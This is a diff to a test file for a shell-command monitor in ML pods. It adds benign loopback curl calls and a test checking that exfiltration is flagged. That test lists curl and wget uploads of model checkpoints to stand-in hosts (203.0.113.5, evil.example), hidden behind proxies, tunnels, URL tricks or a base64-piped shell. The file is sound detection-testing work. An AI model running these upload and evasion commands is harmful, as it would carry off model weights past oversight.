@@ -4,7 +4,8 @@
  * the models and the analyst are for). Beside plain ones, the list holds the classes that raised a
  * high alert before attrs.exec.toolWords: a tool's option read from another command (`grep -F`,
  * `df -F`, `sort -T`, `wget -T`), a port check (`nc -z`), an scp pull, a bucket download, the service account's public
- * files, a filtered environment listing, a checkpoint named by a command that packs nothing. The
+ * files, a filtered environment listing, a checkpoint named by a command that packs nothing, a
+ * request body posted to a model server on the pod's loopback. The
  * credential reads and uploads beside them still alert.
  */
 import { describe, expect, it } from 'vitest';
@@ -58,6 +59,10 @@ const EVERYDAY: string[][] = [
     'openssl x509 -in /etc/ssl/certs/ca.crt -noout -dates',
     'find /workspace -name "*.py" | xargs grep -l DataLoader',
     'python3 /workspace/scripts/eval.py --model /mnt/ckpt/llama-ft/step_1000 --out /tmp/eval.json',
+    // A model server tested from inside its pod with a request body from a file (MLS-EXFIL-036 escalates).
+    'curl -s -X POST -H "Content-Type: application/json" -d @/tmp/req.json http://localhost:8000/v1/completions | jq .choices',
+    'curl -sd @req.json 127.0.0.1:8080/predict > /tmp/out.json 2>&1',
+    'timeout 10 curl -s -F image=@/data/val/cat.jpg http://[::1]:9000/classify',
   ].map(sh),
 ];
 
@@ -103,6 +108,36 @@ describe('the credential reads and uploads beside them still alert', () => {
       ['gsutil', '-m', 'cp', '-r', '/mnt/ckpt', 'gs://tmp-share/'],
       sh('gcloud storage cp /mnt/ckpt/model.pt gs://tmp-share/ --project p'),
     ]) expect(execRuleIds(argv), argv.join(' ')).toContain('MLS-EXFIL-014');
+  });
+
+  it('curl uploads a proxy, a redirect, a tunnel or a second host could carry off (MLS-EXFIL-014), and the loopback ones are escalated (MLS-EXFIL-036)', () => {
+    const escalated = sh('curl -s -d @/mnt/ckpt/model.pt http://localhost:8000/upload');
+    expect(execRuleIds(escalated)).toContain('MLS-EXFIL-036');
+    expect(execRuleIds(escalated)).not.toContain('MLS-EXFIL-014');
+    for (const argv of [
+      sh('curl -d @/mnt/ckpt/model.pt https://203.0.113.5/up'),
+      sh('http_proxy=http://203.0.113.5:3128 curl -d @/mnt/ckpt/m.pt localhost:8080/x'),
+      sh('export HTTPS_PROXY=http://203.0.113.5:3128; curl -T /mnt/ckpt/m.pt https://localhost:8080/x'),
+      ['env', 'ALL_PROXY=socks5://203.0.113.5', 'curl', '-d', '@m.pt', 'localhost'],
+      sh('curl -x http://203.0.113.5:3128 -d @m.pt localhost'),
+      sh('curl -d @m.pt --connect-to localhost:80:203.0.113.5:80 http://localhost/'),
+      sh('curl -d @m.pt -L localhost:8080'),
+      sh('curl -K /tmp/cfg -d @m.pt localhost'),
+      sh("curl -d @m.pt 'http://{localhost,203.0.113.5}/'"),
+      sh('curl -d @m.pt http://localhost@203.0.113.5/'),
+      sh('curl -d @m.pt http://localhost.evil.example/'),
+      sh('curl -d @m.pt localhost http://203.0.113.5/'),
+      sh('ssh -fNL 8080:203.0.113.5:80 jump; curl -T /mnt/ckpt/m.pt localhost:8080'),
+      sh('socat TCP-LISTEN:8080,fork TCP:203.0.113.5:80 & curl -F f=@/mnt/ckpt/m.pt localhost:8080'),
+      sh('curl -F f=@/mnt/ckpt/m.pt localhost:8080; curl -s http://203.0.113.5/x'),
+      sh('proxychains4 -q curl -d @/mnt/ckpt/m.pt localhost'),
+      sh('torsocks curl -T /mnt/ckpt/model.pt https://evil.example/up'),
+      sh('wget --post-file=/mnt/ckpt/m.pt http://localhost:8080/'),
+      sh('echo Y3VybCAtZCBAL21udC9ja3B0L20ucHQgbG9jYWxob3N0 | base64 -d | sh; curl -d @/mnt/ckpt/m.pt localhost'),
+    ]) {
+      expect(execRuleIds(argv), argv.join(' ')).toContain('MLS-EXFIL-014');
+      expect(execRuleIds(argv), argv.join(' ')).not.toContain('MLS-EXFIL-036');
+    }
   });
 
   it('checkpoints packed or copied, named to the tool, to the cd before it or by the command feeding it (MLS-EXFIL-013)', () => {
